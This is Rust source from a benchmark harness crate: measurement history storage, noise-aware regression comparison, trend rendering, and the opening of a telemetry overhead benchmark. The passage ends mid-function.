use std::io;
use std::path::Path;

use dydroid::durable::{scan_path, FramedWriter, SinkOptions, StreamKind};

use crate::Measurement;

/// Default history path, relative to the working directory (the repo
/// root for `cargo run`), tracked in git.
pub const DEFAULT_HISTORY: &str = "BENCH_history.jsonl";

/// Appends one record to the history stream at `path`, creating it if
/// absent and truncating any torn tail first. Returns the sequence
/// number the record was framed with.
///
/// # Errors
///
/// Propagates open/write errors.
pub fn append(path: &Path, record: &Measurement) -> io::Result<u64> {
    // The history is a source-of-truth stream: never shed under
    // pressure, which is what `StreamKind::Journal` encodes.
    let mut writer = FramedWriter::open(path, SinkOptions::direct(StreamKind::Journal))?;
    let seq = writer.seq();
    writer.append_body(&record.to_body())?;
    writer.sync_now()?;
    Ok(seq)
}

/// Loads every intact record from the history stream, oldest first.
/// A missing file is an empty history; a torn or corrupt tail ends the
/// read at the last intact frame (matching the writer's recovery);
/// bodies that are not measurement records are skipped with a warning.
///
/// # Errors
///
/// Propagates read errors.
pub fn load(path: &Path) -> io::Result<Vec<Measurement>> {
    let Some(scan) = scan_path(path)? else {
        return Ok(Vec::new());
    };
    let mut records = Vec::with_capacity(scan.bodies.len());
    for (i, body) in scan.bodies.iter().enumerate() {
        match Measurement::parse(body) {
            Ok(record) => records.push(record),
            Err(e) => eprintln!(
                "warning: {}: skipping history line {i}: {e}",
                path.display()
            ),
        }
    }
    Ok(records)
}

/// The latest history entry for `bench`, excluding any entry whose body
/// is byte-identical to `current` (so a record that was just appended
/// does not compare against itself).
pub fn latest_for<'h>(
    records: &'h [Measurement],
    bench: &str,
    current: Option<&Measurement>,
) -> Option<&'h Measurement> {
    let current_body = current.map(Measurement::to_body);
    records
        .iter()
        .rev()
        .filter(|r| r.bench == bench)
        .find(|r| current_body.as_ref().is_none_or(|c| *c != r.to_body()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::measure::Direction;

    fn temp(tag: &str) -> std::path::PathBuf {
        std::env::temp_dir().join(format!(
            "dydroid-bench-history-{tag}-{}-{:?}.jsonl",
            std::process::id(),
            std::thread::current().id()
        ))
    }

    fn record(bench: &str, median: f64) -> Measurement {
        let mut m = Measurement::new(bench, "default", 0.01, 7);
        m.push_metric("wall_ms", "ms", Direction::Lower, false, vec![median]);
        m
    }

    #[test]
    fn append_then_load_round_trips_in_order() {
        let path = temp("roundtrip");
        let _ = std::fs::remove_file(&path);
        assert!(load(&path).expect("empty load").is_empty());

        assert_eq!(append(&path, &record("sweep", 100.0)).expect("append"), 0);
        assert_eq!(append(&path, &record("avm", 5.0)).expect("append"), 1);
        assert_eq!(append(&path, &record("sweep", 90.0)).expect("append"), 2);

        let records = load(&path).expect("load");
        assert_eq!(records.len(), 3);
        assert_eq!(records[0].bench, "sweep");
        assert_eq!(records[2].metric("wall_ms").unwrap().stats.median, 90.0);

        // Latest-per-bench picks the newest entry of that bench only.
        let latest = latest_for(&records, "sweep", None).expect("latest");
        assert_eq!(latest.metric("wall_ms").unwrap().stats.median, 90.0);
        assert!(latest_for(&records, "detect", None).is_none());

        // A just-appended record is excluded from its own comparison.
        let newest = records[2].clone();
        let prior = latest_for(&records, "sweep", Some(&newest)).expect("prior");
        assert_eq!(prior.metric("wall_ms").unwrap().stats.median, 100.0);
        let _ = std::fs::remove_file(&path);
    }

    #[test]
    fn torn_tail_is_truncated_and_sequence_continues() {
        let path = temp("torn");
        let _ = std::fs::remove_file(&path);
        append(&path, &record("sweep", 100.0)).expect("append");
        append(&path, &record("sweep", 95.0)).expect("append");
        // Tear the tail mid-frame, as a crash during append would.
        let bytes = std::fs::read(&path).expect("read");
        std::fs::write(&path, &bytes[..bytes.len() - 7]).expect("tear");

        let records = load(&path).expect("load torn");
        assert_eq!(records.len(), 1, "torn frame dropped");

        // The next append truncates the tear and reuses its seq slot.
        assert_eq!(append(&path, &record("sweep", 92.0)).expect("append"), 1);
        let records = load(&path).expect("load healed");
        assert_eq!(records.len(), 2);
        assert_eq!(records[1].metric("wall_ms").unwrap().stats.median, 92.0);
        let _ = std::fs::remove_file(&path);
    }
}
