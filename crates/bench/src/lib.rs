//! # dydroid-bench
//!
//! Benchmark harness and experiment drivers for the DyDroid reproduction:
//!
//! - the `tables` binary regenerates every table and figure of the
//!   paper's evaluation section (`cargo run -p dydroid-bench --bin tables`);
//! - the Criterion benches under `benches/` measure component throughput
//!   and run the ablations called out in `DESIGN.md`;
//! - the [`measure`]/[`compare`]/[`history`]/[`args`] modules form the
//!   unified measurement harness every `*bench` binary reports through:
//!   one record shape (`BENCH_*.json`), one noise-aware comparator
//!   (`benchcmp`), one framed history stream (`BENCH_history.jsonl`);
//! - the [`trend`] module renders per-metric median trajectories over
//!   that history (`benchcmp --trend`).

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod args;
pub mod compare;
pub mod history;
pub mod measure;
pub mod trend;

pub use args::{ArgParser, CommonArgs, EXIT_CLEAN, EXIT_CODE_HELP, EXIT_FINDING, EXIT_USAGE};
pub use compare::{compare, significant, CompareConfig, Comparison, Gate, MetricDelta, Verdict};
pub use measure::{Direction, Measurement, Metric, Stats};
pub use trend::{trend_rows, Trend, TrendRow};

use dydroid::{Pipeline, PipelineConfig};
use dydroid_workload::{generate, CorpusSpec, SyntheticApp};

/// Generates the default benchmark corpus at the given scale.
pub fn corpus(scale: f64, seed: u64) -> Vec<SyntheticApp> {
    generate(&CorpusSpec { scale, seed })
}

/// Builds the default pipeline.
pub fn pipeline() -> Pipeline {
    Pipeline::new(PipelineConfig::default())
}

/// Builds a pipeline without the (expensive) environment re-runs, for
/// component benchmarks.
pub fn pipeline_no_reruns() -> Pipeline {
    Pipeline::new(PipelineConfig {
        environment_reruns: false,
        ..Default::default()
    })
}
