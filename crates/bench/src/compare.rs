//! Noise-aware comparison of two unified measurement records.
//!
//! A delta between two runs of the same bench only *counts* when it
//! clears both a configured relative floor and a multiple of the pooled
//! sample noise:
//!
//! ```text
//! significant  ⇔  |new.median − old.median| > max(floor · |old.median|,
//!                                                 k · pooled_stddev)
//! ```
//!
//! where `pooled_stddev` is the usual two-sample pooled estimate
//! `√(((n₁−1)s₁² + (n₂−1)s₂²) / (n₁+n₂−2))`. A wall-clock pair whose
//! difference is inside the run-to-run noise band therefore reads
//! "unchanged", not "0.99x regression" — the failure mode the old
//! single-pair sweepbench comparison had.
//!
//! Each metric's [`Direction`](crate::measure::Direction) turns a
//! significant delta into an improvement or a regression; `Steady`
//! metrics (instruction-retirement identities, deterministic event
//! totals) regress on *any* significant movement. Gating — what makes
//! `benchcmp` exit 1 — defaults to **virtual metrics only** (virtual
//! makespan, instruction counts, seed-determined totals), because those
//! are machine-independent: a slow CI runner cannot fake a regression
//! on them, and a fast one cannot mask one.

use crate::measure::{Direction, Measurement, Metric};

/// What a significant delta means for one metric.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Verdict {
    /// Moved the good way, beyond noise.
    Improvement,
    /// Moved the bad way (or moved at all, for `Steady`), beyond noise.
    Regression,
    /// Inside the noise band (or both medians zero).
    Unchanged,
}

/// Which metrics a regression verdict gates (exit 1) on.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Gate {
    /// Machine-independent metrics only (the CI default).
    #[default]
    Virtual,
    /// Every metric present in both records.
    All,
    /// Report only; never gate.
    None,
}

/// Comparison thresholds.
#[derive(Debug, Clone, Copy)]
pub struct CompareConfig {
    /// Relative floor: deltas under `floor · |old.median|` never count.
    pub floor: f64,
    /// Noise multiplier: deltas under `k · pooled_stddev` never count.
    pub k: f64,
    /// Gating policy.
    pub gate: Gate,
}

impl Default for CompareConfig {
    fn default() -> Self {
        CompareConfig {
            floor: 0.05,
            k: 3.0,
            gate: Gate::default(),
        }
    }
}

/// One metric's comparison outcome.
#[derive(Debug, Clone)]
pub struct MetricDelta {
    /// Metric name.
    pub name: String,
    /// Metric unit.
    pub unit: String,
    /// Whether the metric is machine-independent.
    pub virtual_metric: bool,
    /// Old median.
    pub old: f64,
    /// New median.
    pub new: f64,
    /// Signed relative delta `(new − old) / |old|` (0 when both zero).
    pub delta_rel: f64,
    /// The absolute threshold that was applied:
    /// `max(floor · |old|, k · pooled_stddev)`.
    pub threshold: f64,
    /// The outcome.
    pub verdict: Verdict,
    /// Whether a `Regression` here makes the comparison exit 1.
    pub gated: bool,
}

/// Pooled two-sample standard deviation (0 when both samples are
/// singletons — deterministic metrics compare on the floor alone).
pub fn pooled_stddev(a: &[f64], b: &[f64]) -> f64 {
    let (na, nb) = (a.len(), b.len());
    let dof = (na.saturating_sub(1) + nb.saturating_sub(1)) as f64;
    if dof == 0.0 {
        return 0.0;
    }
    let var = |xs: &[f64]| {
        let n = xs.len();
        if n < 2 {
            return 0.0;
        }
        let mean = xs.iter().sum::<f64>() / n as f64;
        xs.iter().map(|x| (x - mean) * (x - mean)).sum::<f64>()
    };
    ((var(a) + var(b)) / dof).sqrt()
}

/// The noise-aware significance test on two raw sample sets: returns
/// whether the medians differ beyond `max(floor·|old median|, k·pooled
/// stddev)`, plus the threshold that was applied. This is the single
/// judgement both `benchcmp` and the in-bench comparisons (e.g.
/// sweepbench's cached-vs-baseline speedup) share.
pub fn significant(old: &[f64], new: &[f64], floor: f64, k: f64) -> (bool, f64) {
    let old_med = crate::measure::Stats::from_samples(old).median;
    let new_med = crate::measure::Stats::from_samples(new).median;
    let threshold = (floor * old_med.abs()).max(k * pooled_stddev(old, new));
    ((new_med - old_med).abs() > threshold, threshold)
}

fn classify(old: &Metric, new: &Metric, cfg: &CompareConfig) -> MetricDelta {
    let (is_significant, threshold) = significant(&old.samples, &new.samples, cfg.floor, cfg.k);
    let (old_med, new_med) = (old.stats.median, new.stats.median);
    let delta_rel = if old_med.abs() > 0.0 {
        (new_med - old_med) / old_med.abs()
    } else if new_med == 0.0 {
        0.0
    } else {
        f64::INFINITY * new_med.signum()
    };
    let verdict = if !is_significant {
        Verdict::Unchanged
    } else {
        match (old.direction, new_med > old_med) {
            (Direction::Steady, _) => Verdict::Regression,
            (Direction::Higher, true) | (Direction::Lower, false) => Verdict::Improvement,
            (Direction::Higher, false) | (Direction::Lower, true) => Verdict::Regression,
        }
    };
    let gated = match cfg.gate {
        Gate::Virtual => old.virtual_metric && new.virtual_metric,
        Gate::All => true,
        Gate::None => false,
    };
    MetricDelta {
        name: old.name.clone(),
        unit: old.unit.clone(),
        virtual_metric: old.virtual_metric && new.virtual_metric,
        old: old_med,
        new: new_med,
        delta_rel,
        threshold,
        verdict,
        gated,
    }
}

/// The full comparison report `benchcmp` renders and gates on.
#[derive(Debug, Clone)]
pub struct Comparison {
    /// Per-metric outcomes, in the new record's metric order.
    pub deltas: Vec<MetricDelta>,
    /// Metric names present in only one record (reported, never gated).
    pub unmatched: Vec<String>,
    /// Context keys (workload/scale/seed) differ between the records:
    /// `Steady` identities are incomparable, so they were left ungated.
    pub shape_mismatch: bool,
}

impl Comparison {
    /// Gated regressions — the count that decides exit 1.
    pub fn gated_regressions(&self) -> usize {
        self.deltas
            .iter()
            .filter(|d| d.gated && d.verdict == Verdict::Regression)
            .count()
    }

    /// All regressions, gated or not.
    pub fn regressions(&self) -> usize {
        self.deltas
            .iter()
            .filter(|d| d.verdict == Verdict::Regression)
            .count()
    }

    /// Improvements beyond noise.
    pub fn improvements(&self) -> usize {
        self.deltas
            .iter()
            .filter(|d| d.verdict == Verdict::Improvement)
            .count()
    }
}

/// Compares two records of the same bench, metric by metric (matched by
/// name). When workload, scale, or seed differ, deterministic `Steady`
/// identities are meaningless across the shapes, so their deltas are
/// reported but never gated.
///
/// # Errors
///
/// Returns a message when the records belong to different benches —
/// that comparison has no meaning at all.
pub fn compare(
    old: &Measurement,
    new: &Measurement,
    cfg: &CompareConfig,
) -> Result<Comparison, String> {
    if old.bench != new.bench {
        return Err(format!(
            "records are from different benches ({:?} vs {:?})",
            old.bench, new.bench
        ));
    }
    let shape_mismatch = old.workload != new.workload
        || old.scale.to_bits() != new.scale.to_bits()
        || old.seed != new.seed;
    let mut deltas = Vec::new();
    let mut unmatched: Vec<String> = Vec::new();
    for m in &new.metrics {
        match old.metric(&m.name) {
            Some(o) => {
                let mut d = classify(o, m, cfg);
                if shape_mismatch && o.direction == Direction::Steady {
                    d.gated = false;
                }
                deltas.push(d);
            }
            None => unmatched.push(format!("{} (new only)", m.name)),
        }
    }
    for o in &old.metrics {
        if new.metric(&o.name).is_none() {
            unmatched.push(format!("{} (old only)", o.name));
        }
    }
    Ok(Comparison {
        deltas,
        unmatched,
        shape_mismatch,
    })
}

/// Renders the comparison as the aligned table `benchcmp` prints.
pub fn render(old: &Measurement, new: &Measurement, cmp: &Comparison) -> String {
    use std::fmt::Write as _;
    let mut out = String::new();
    let _ = writeln!(
        out,
        "benchcmp: {} · old {} ({}) vs new {} ({})",
        new.bench, old.git_commit, old.workload, new.git_commit, new.workload
    );
    if cmp.shape_mismatch {
        let _ = writeln!(
            out,
            "benchcmp: note — workload/scale/seed differ; steady identities not gated"
        );
    }
    let width = cmp
        .deltas
        .iter()
        .map(|d| d.name.len())
        .max()
        .unwrap_or(6)
        .max(6);
    for d in &cmp.deltas {
        let verdict = match d.verdict {
            Verdict::Improvement => "improved",
            Verdict::Regression => "REGRESSED",
            Verdict::Unchanged => "~ (noise)",
        };
        let gate = if d.gated { " [gated]" } else { "" };
        let vmark = if d.virtual_metric { " virtual" } else { "" };
        let _ = writeln!(
            out,
            "  {:<width$}  {:>14.4} -> {:>14.4} {:<6} {:>+8.2}%  {verdict}{gate}{vmark}",
            d.name,
            d.old,
            d.new,
            d.unit,
            d.delta_rel * 100.0,
        );
    }
    for name in &cmp.unmatched {
        let _ = writeln!(out, "  {name:<width$}  (not compared)");
    }
    let _ = writeln!(
        out,
        "benchcmp: {} improved, {} regressed ({} gated), {} within noise",
        cmp.improvements(),
        cmp.regressions(),
        cmp.gated_regressions(),
        cmp.deltas
            .iter()
            .filter(|d| d.verdict == Verdict::Unchanged)
            .count(),
    );
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::measure::Direction;

    fn record(bench: &str, metrics: Vec<Metric>) -> Measurement {
        let mut m = Measurement::new(bench, "default", 0.01, 7);
        m.metrics = metrics;
        m
    }

    fn metric(name: &str, dir: Direction, virt: bool, samples: &[f64]) -> Metric {
        Metric::new(name, "ms", dir, virt, samples.to_vec())
    }

    #[test]
    fn identical_records_compare_clean() {
        let m = record(
            "sweep",
            vec![
                metric("wall_ms", Direction::Lower, false, &[100.0, 101.0, 99.0]),
                metric("makespan_us", Direction::Lower, true, &[5000.0]),
            ],
        );
        let cmp = compare(&m, &m, &CompareConfig::default()).expect("compare");
        assert_eq!(cmp.gated_regressions(), 0);
        assert_eq!(cmp.regressions(), 0);
        assert_eq!(cmp.improvements(), 0);
        assert!(cmp
            .deltas
            .iter()
            .all(|d| d.verdict == Verdict::Unchanged && d.delta_rel == 0.0));
    }

    #[test]
    fn planted_twenty_percent_regression_is_detected_and_gated() {
        let old = record(
            "sweep",
            vec![metric(
                "makespan_us",
                Direction::Lower,
                true,
                &[1000.0, 1010.0, 990.0],
            )],
        );
        let new = record(
            "sweep",
            vec![metric(
                "makespan_us",
                Direction::Lower,
                true,
                &[1200.0, 1212.0, 1188.0],
            )],
        );
        let cmp = compare(&old, &new, &CompareConfig::default()).expect("compare");
        assert_eq!(cmp.gated_regressions(), 1);
        let d = &cmp.deltas[0];
        assert_eq!(d.verdict, Verdict::Regression);
        assert!((d.delta_rel - 0.20).abs() < 1e-9, "delta {}", d.delta_rel);

        // The same movement the good way is an improvement, not a gate.
        let cmp = compare(&new, &old, &CompareConfig::default()).expect("compare");
        assert_eq!(cmp.gated_regressions(), 0);
        assert_eq!(cmp.improvements(), 1);
    }

    #[test]
    fn noisy_delta_is_not_significant() {
        // ±30% run-to-run spread; a 10% median shift must read as noise.
        let old = metric("wall_ms", Direction::Lower, false, &[700.0, 1000.0, 1300.0]);
        let new = metric("wall_ms", Direction::Lower, false, &[770.0, 1100.0, 1430.0]);
        let cfg = CompareConfig {
            gate: Gate::All,
            ..CompareConfig::default()
        };
        let cmp = compare(
            &record("sweep", vec![old]),
            &record("sweep", vec![new]),
            &cfg,
        )
        .expect("compare");
        assert_eq!(cmp.deltas[0].verdict, Verdict::Unchanged);
        assert_eq!(cmp.gated_regressions(), 0);
    }

    #[test]
    fn steady_metrics_regress_in_both_directions() {
        let old = record(
            "avm",
            vec![metric("insns", Direction::Steady, true, &[1000.0])],
        );
        for moved in [1250.0, 750.0] {
            let new = record(
                "avm",
                vec![metric("insns", Direction::Steady, true, &[moved])],
            );
            let cmp = compare(&old, &new, &CompareConfig::default()).expect("compare");
            assert_eq!(cmp.gated_regressions(), 1, "moved to {moved}");
        }
    }

    #[test]
    fn floor_suppresses_tiny_deterministic_deltas() {
        // Singleton samples → pooled stddev 0; only the floor applies.
        let old = record(
            "sweep",
            vec![metric("makespan_us", Direction::Lower, true, &[1000.0])],
        );
        let new = record(
            "sweep",
            vec![metric("makespan_us", Direction::Lower, true, &[1030.0])],
        );
        let cmp = compare(&old, &new, &CompareConfig::default()).expect("compare");
        assert_eq!(cmp.deltas[0].verdict, Verdict::Unchanged, "3% < 5% floor");

        let cfg = CompareConfig {
            floor: 0.01,
            ..CompareConfig::default()
        };
        let cmp = compare(&old, &new, &cfg).expect("compare");
        assert_eq!(cmp.deltas[0].verdict, Verdict::Regression, "3% > 1% floor");
    }

    #[test]
    fn gate_policy_controls_exit_relevance() {
        let old = record(
            "sweep",
            vec![
                metric("wall_ms", Direction::Lower, false, &[100.0]),
                metric("makespan_us", Direction::Lower, true, &[1000.0]),
            ],
        );
        let new = record(
            "sweep",
            vec![
                metric("wall_ms", Direction::Lower, false, &[200.0]),
                metric("makespan_us", Direction::Lower, true, &[2000.0]),
            ],
        );
        let regressions_under = |gate| {
            let cfg = CompareConfig {
                gate,
                ..CompareConfig::default()
            };
            compare(&old, &new, &cfg)
                .expect("compare")
                .gated_regressions()
        };
        assert_eq!(regressions_under(Gate::Virtual), 1);
        assert_eq!(regressions_under(Gate::All), 2);
        assert_eq!(regressions_under(Gate::None), 0);
    }

    #[test]
    fn cross_bench_comparison_is_refused_and_shape_mismatch_ungates_steady() {
        let a = record("sweep", vec![]);
        let b = record("avm", vec![]);
        assert!(compare(&a, &b, &CompareConfig::default()).is_err());

        let old = record(
            "avm",
            vec![metric("insns", Direction::Steady, true, &[1000.0])],
        );
        let mut new = record(
            "avm",
            vec![metric("insns", Direction::Steady, true, &[2000.0])],
        );
        new.scale = 9.9;
        let cmp = compare(&old, &new, &CompareConfig::default()).expect("compare");
        assert!(cmp.shape_mismatch);
        assert_eq!(cmp.regressions(), 1, "still reported");
        assert_eq!(cmp.gated_regressions(), 0, "but not gated across shapes");
    }

    #[test]
    fn missing_metrics_are_reported_not_gated() {
        let old = record(
            "sweep",
            vec![metric("gone", Direction::Lower, true, &[1.0])],
        );
        let new = record(
            "sweep",
            vec![metric("fresh", Direction::Lower, true, &[1.0])],
        );
        let cmp = compare(&old, &new, &CompareConfig::default()).expect("compare");
        assert_eq!(cmp.deltas.len(), 0);
        assert_eq!(cmp.unmatched.len(), 2);
        assert_eq!(cmp.gated_regressions(), 0);
    }
}
