//! `benchcmp --trend`: per-metric median trajectories over the bench
//! history stream.
//!
//! Where [`crate::compare`] judges one old/new pair, the trend view
//! walks the whole committed `BENCH_history.jsonl` and renders, per
//! bench and per metric, the median of every record oldest → newest —
//! the repo's perf trajectory at a glance. The *last* step of each
//! trajectory is judged with the same noise-aware
//! [`significant`](crate::compare::significant) test and each metric's
//! [`Direction`], so a row ends in `improving`, `steady`, or
//! `REGRESSING` rather than a bare number. Single-entry benches (a
//! freshly added bench has exactly one committed record) still render,
//! marked `(single)`.

use std::fmt::Write as _;

use crate::compare::significant;
use crate::measure::{Direction, Measurement, Metric};

/// Direction-aware judgement of a metric's most recent step.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Trend {
    /// Only one history record carries the metric — no trajectory yet.
    Single,
    /// The last step is inside the noise band.
    Steady,
    /// The last step moved the good way, beyond noise.
    Improving,
    /// The last step moved the bad way (or moved at all, for `Steady`
    /// identities), beyond noise.
    Regressing,
}

impl Trend {
    /// The marker rendered in the trend table.
    pub fn marker(self) -> &'static str {
        match self {
            Trend::Single => "(single)",
            Trend::Steady => "steady",
            Trend::Improving => "improving",
            Trend::Regressing => "REGRESSING",
        }
    }
}

/// One metric's median trajectory across every history record of its
/// bench.
#[derive(Debug, Clone)]
pub struct TrendRow {
    /// Bench the metric belongs to.
    pub bench: String,
    /// Metric name.
    pub name: String,
    /// Metric unit.
    pub unit: String,
    /// Whether the metric is machine-independent.
    pub virtual_metric: bool,
    /// Median per history record of this bench, oldest first (`None`
    /// when that record does not carry the metric).
    pub medians: Vec<Option<f64>>,
    /// Judgement of the last step.
    pub trend: Trend,
}

fn judge(history: &[&Measurement], metric: &Metric, floor: f64, k: f64) -> Trend {
    let present: Vec<&Metric> = history
        .iter()
        .filter_map(|r| r.metric(&metric.name))
        .collect();
    let [.., prev, last] = present.as_slice() else {
        return Trend::Single;
    };
    let (is_significant, _) = significant(&prev.samples, &last.samples, floor, k);
    if !is_significant {
        return Trend::Steady;
    }
    match (metric.direction, last.stats.median > prev.stats.median) {
        (Direction::Steady, _) => Trend::Regressing,
        (Direction::Higher, true) | (Direction::Lower, false) => Trend::Improving,
        (Direction::Higher, false) | (Direction::Lower, true) => Trend::Regressing,
    }
}

/// Builds one [`TrendRow`] per metric of each bench's *latest* record,
/// benches in first-appearance order, using the same `floor`/`k` noise
/// thresholds as [`crate::compare`].
pub fn trend_rows(records: &[Measurement], floor: f64, k: f64) -> Vec<TrendRow> {
    let mut benches: Vec<&str> = Vec::new();
    for r in records {
        if !benches.contains(&r.bench.as_str()) {
            benches.push(&r.bench);
        }
    }
    let mut rows = Vec::new();
    for bench in benches {
        let history: Vec<&Measurement> = records.iter().filter(|r| r.bench == bench).collect();
        let Some(latest) = history.last() else {
            continue;
        };
        for m in &latest.metrics {
            let medians = history
                .iter()
                .map(|r| r.metric(&m.name).map(|mm| mm.stats.median))
                .collect();
            rows.push(TrendRow {
                bench: bench.to_string(),
                name: m.name.clone(),
                unit: m.unit.clone(),
                virtual_metric: m.virtual_metric,
                medians,
                trend: judge(&history, m, floor, k),
            });
        }
    }
    rows
}

fn fmt_median(v: f64) -> String {
    if v.abs() >= 1000.0 {
        format!("{v:.0}")
    } else if v.abs() >= 1.0 {
        format!("{v:.2}")
    } else {
        format!("{v:.4}")
    }
}

/// Renders the trend table: one section per bench, one row per metric,
/// medians oldest → newest with `—` for records missing the metric.
pub fn render(history_path: &str, records: &[Measurement], rows: &[TrendRow]) -> String {
    let mut out = String::new();
    let _ = writeln!(
        out,
        "benchcmp trend: {} record(s) in {history_path}",
        records.len()
    );
    let mut benches: Vec<&str> = Vec::new();
    for row in rows {
        if !benches.contains(&row.bench.as_str()) {
            benches.push(&row.bench);
        }
    }
    for bench in benches {
        let history: Vec<&Measurement> = records.iter().filter(|r| r.bench == bench).collect();
        let commits = match history.as_slice() {
            [one] => one.git_commit.clone(),
            [first, .., last] => format!("{} → {}", first.git_commit, last.git_commit),
            [] => String::new(),
        };
        let _ = writeln!(out, "{bench} · {} record(s) ({commits})", history.len());
        let bench_rows: Vec<&TrendRow> = rows.iter().filter(|r| r.bench == bench).collect();
        let width = bench_rows
            .iter()
            .map(|r| r.name.len())
            .max()
            .unwrap_or(6)
            .max(6);
        for row in bench_rows {
            let trajectory = row
                .medians
                .iter()
                .map(|m| m.map_or_else(|| "—".to_string(), fmt_median))
                .collect::<Vec<_>>()
                .join(" → ");
            let vmark = if row.virtual_metric { " virtual" } else { "" };
            let _ = writeln!(
                out,
                "  {:<width$}  {:<6} {trajectory}  {}{vmark}",
                row.name,
                row.unit,
                row.trend.marker(),
            );
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn record(bench: &str, metrics: Vec<(&str, Direction, Vec<f64>)>) -> Measurement {
        let mut m = Measurement::new(bench, "default", 0.01, 7);
        for (name, dir, samples) in metrics {
            m.push_metric(name, "ms", dir, true, samples);
        }
        m
    }

    #[test]
    fn every_latest_metric_gets_a_row_in_bench_order() {
        let records = vec![
            record("sweep", vec![("wall_ms", Direction::Lower, vec![100.0])]),
            record("avm", vec![("ips", Direction::Higher, vec![1.0e6])]),
            record("sweep", vec![("wall_ms", Direction::Lower, vec![90.0])]),
        ];
        let rows = trend_rows(&records, 0.05, 3.0);
        assert_eq!(rows.len(), 2);
        assert_eq!(
            (rows[0].bench.as_str(), rows[0].name.as_str()),
            ("sweep", "wall_ms")
        );
        assert_eq!(rows[0].medians, vec![Some(100.0), Some(90.0)]);
        assert_eq!(
            rows[0].trend,
            Trend::Improving,
            "10% drop on a Lower metric"
        );
        assert_eq!(rows[1].bench, "avm");
        assert_eq!(rows[1].trend, Trend::Single);
    }

    #[test]
    fn single_record_benches_still_render() {
        let records = vec![record(
            "trace",
            vec![("overhead", Direction::Lower, vec![1.5])],
        )];
        let rows = trend_rows(&records, 0.05, 3.0);
        assert_eq!(rows.len(), 1);
        assert_eq!(rows[0].trend, Trend::Single);
        let text = render("BENCH_history.jsonl", &records, &rows);
        assert!(text.contains("overhead"), "{text}");
        assert!(text.contains("(single)"), "{text}");
    }

    #[test]
    fn regression_and_noise_are_marked_direction_aware() {
        let records = vec![
            record(
                "sweep",
                vec![("makespan_us", Direction::Lower, vec![1000.0])],
            ),
            record(
                "sweep",
                vec![("makespan_us", Direction::Lower, vec![1300.0])],
            ),
        ];
        let rows = trend_rows(&records, 0.05, 3.0);
        assert_eq!(
            rows[0].trend,
            Trend::Regressing,
            "30% rise on a Lower metric"
        );
        let text = render("h.jsonl", &records, &rows);
        assert!(text.contains("REGRESSING"), "{text}");
        assert!(text.contains("1000 → 1300"), "{text}");

        // The same shift inside the 5% floor reads as steady.
        let records = vec![
            record(
                "sweep",
                vec![("makespan_us", Direction::Lower, vec![1000.0])],
            ),
            record(
                "sweep",
                vec![("makespan_us", Direction::Lower, vec![1030.0])],
            ),
        ];
        assert_eq!(trend_rows(&records, 0.05, 3.0)[0].trend, Trend::Steady);
    }

    #[test]
    fn records_missing_a_metric_render_a_gap() {
        let records = vec![
            record("sweep", vec![]),
            record("sweep", vec![("fresh_ms", Direction::Lower, vec![5.0])]),
        ];
        let rows = trend_rows(&records, 0.05, 3.0);
        assert_eq!(rows[0].medians, vec![None, Some(5.0)]);
        assert_eq!(rows[0].trend, Trend::Single, "one appearance only");
        let text = render("h.jsonl", &records, &rows);
        assert!(text.contains("— → 5.00"), "{text}");
    }
}
