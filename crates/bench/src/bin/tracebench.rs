//! Telemetry overhead benchmark: runs the sweepbench-shape corpus with
//! telemetry **disabled** and **enabled**, verifies the two reports are
//! byte-identical JSON (the observability layer must never change a
//! measured byte), validates the Chrome-trace export by parsing it
//! back, micro-benchmarks the no-op span fast path, and emits a unified
//! `BENCH_trace.json` measurement record (appended to
//! `BENCH_history.jsonl`). Wall-clock and span-cost numbers are sampled
//! over several rounds (rebar warmup/sample discipline); the recorded
//! span count is a deterministic `Steady` identity benchcmp gates
//! across machines.
//!
//! The gate: the *disabled* fast path must cost < `--max-overhead`
//! percent (default 3%) of sweep wall time. A disabled span guard does
//! no allocation and no locking, so its estimated share — spans the
//! enabled run recorded × the measured ns per disabled span, over the
//! disabled-run wall time — stays far below the budget.

use std::time::Instant;

use dydroid::obs::Telemetry;
use dydroid::{MeasurementReport, Pipeline, PipelineConfig};
use dydroid_bench::measure::sample_rounds;
use dydroid_bench::{ArgParser, CommonArgs, Direction, Measurement, Stats, EXIT_FINDING};
use dydroid_workload::{generate, CorpusSpec, SyntheticApp};

const USAGE: &str = "tracebench [--scale F] [--seed N] [--out PATH] [--samples N] [--warmup N] \
[--history PATH | --no-history] [--trace-out PATH] [--max-overhead PCT]";

/// One timed sweep; returns the pipeline (for its telemetry), the report
/// and the wall-clock ms.
fn timed_sweep(
    config: PipelineConfig,
    corpus: &[SyntheticApp],
) -> (Pipeline, MeasurementReport, f64) {
    let pipeline = Pipeline::new(config);
    let t0 = Instant::now();
    let report = pipeline.run(corpus);
    (pipeline, report, t0.elapsed().as_secs_f64() * 1e3)
}

/// Nanoseconds per span open/field/close round trip on `telemetry`.
fn span_round_trip_ns(telemetry: &Telemetry, iters: u64) -> f64 {
    let t0 = Instant::now();
    for i in 0..iters {
        let mut span = telemetry.span("bench");
        span.field("i", i);
    }
    t0.elapsed().as_nanos() as f64 / iters as f64
}

fn main() {
    let mut parser = ArgParser::new(USAGE);
    let mut common = CommonArgs::for_bench("BENCH_trace.json", 3, 1);
    let mut trace_out: Option<String> = None;
    let mut max_overhead_pct = 3.0f64;
    while let Some(arg) = parser.next() {
        if common.accept(&arg, &mut parser) {
            continue;
        }
        match arg.as_str() {
            "--trace-out" => trace_out = Some(parser.raw("--trace-out")),
            "--max-overhead" => {
                max_overhead_pct = parser.value("--max-overhead", "a float percentage")
            }
            other => parser.fail(&format!("unknown argument {other:?}")),
        }
    }

    eprintln!(
        "tracebench: generating corpus (scale {}, seed {:#x}) ...",
        common.scale, common.seed
    );
    let corpus = generate(&CorpusSpec {
        scale: common.scale,
        seed: common.seed,
    });
    let apps = corpus.len();
    eprintln!("tracebench: {apps} apps");

    let mut record = Measurement::new("trace", "on-vs-off", common.scale, common.seed);
    record.samples = common.samples;
    record.warmup = common.warmup;

    eprintln!(
        "tracebench: telemetry-disabled sweep ({} warmup + {} sample rounds) ...",
        common.warmup, common.samples
    );
    let mut off_report: Option<MeasurementReport> = None;
    let off_ms = sample_rounds(common.samples, common.warmup, || {
        let (_, report, ms) = timed_sweep(
            PipelineConfig {
                telemetry: false,
